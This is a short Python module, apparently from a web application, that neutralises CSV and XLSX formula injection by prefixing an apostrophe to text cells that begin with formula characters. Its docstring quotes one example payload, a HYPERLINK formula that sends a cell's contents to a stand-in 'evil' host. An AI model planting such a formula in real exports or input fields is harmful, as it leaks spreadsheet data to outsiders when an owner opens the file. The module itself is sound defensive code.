"""Cells a spreadsheet will not run: one neutraliser for every CSV and XLSX export.

A location, comment or name typed as ``=HYPERLINK("http://evil/?"&A1, "Click")`` becomes a live
formula when an owner opens the export in Excel or LibreOffice (CSV injection). Every export, of
any app, passes its text cells through ``spreadsheet_safe``.
"""

# A spreadsheet treats a cell starting with these as a formula (tab and CR too, since some
# programs strip them first); OWASP's advice is a leading apostrophe, which shows the text as typed.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value):
    if isinstance(value, str) and value.startswith(_FORMULA_STARTS):
        return "'" + value
    return value
